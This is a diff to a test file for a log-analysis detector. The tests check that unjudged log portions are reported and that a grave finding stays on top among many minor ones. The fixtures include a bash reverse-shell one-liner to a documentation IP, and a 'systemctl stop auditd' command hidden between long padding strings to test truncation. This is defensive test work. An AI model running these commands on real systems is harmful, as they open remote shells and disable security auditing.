@@ -84,8 +84,8 @@ test('somebody who mistypes a password in the midst of a storm is no intruder', 
 test('what is not judged of a log is said', () => {
   const { not_checked } = judge([sudo('/bin/ls'), `${at(2)} kernel: usb 1-1: new device`]);
   expect(not_checked).toContainEqual(expect.objectContaining({ what: 'what 1 of 2 records say' }));
-  const long = judge([sudo(`/bin/echo ${'a'.repeat(2_000)}; systemctl stop auditd`)]);
-  expect(long.not_checked).toContainEqual(expect.objectContaining({ what: 'the rest of 1 long records' }));
+  const long = judge([sudo(`/bin/echo ${'a'.repeat(90_000)}; systemctl stop auditd; echo ${'a'.repeat(90_000)}`)]);
+  expect(long.not_checked).toContainEqual(expect.objectContaining({ what: 'the middle of 1 long lines' }));
   expect(long.verdict).not.toBe('benign');
 });
 
@@ -93,5 +93,5 @@ test('many light findings do not push a grave one out', () => {
   const light = Array.from({ length: 400 }, (_, index) => `crontab /srv/jobs${index}`);
   const { findings, not_checked } = judge([...light, 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], '.bash_history');
   expect(findings[0]).toMatchObject({ rule: 'typed/reverse-shell' });
-  expect(not_checked).toContainEqual(expect.objectContaining({ what: '101 lighter findings' }));
+  expect(not_checked).toContainEqual(expect.objectContaining({ what: '101 lesser findings' }));
 });
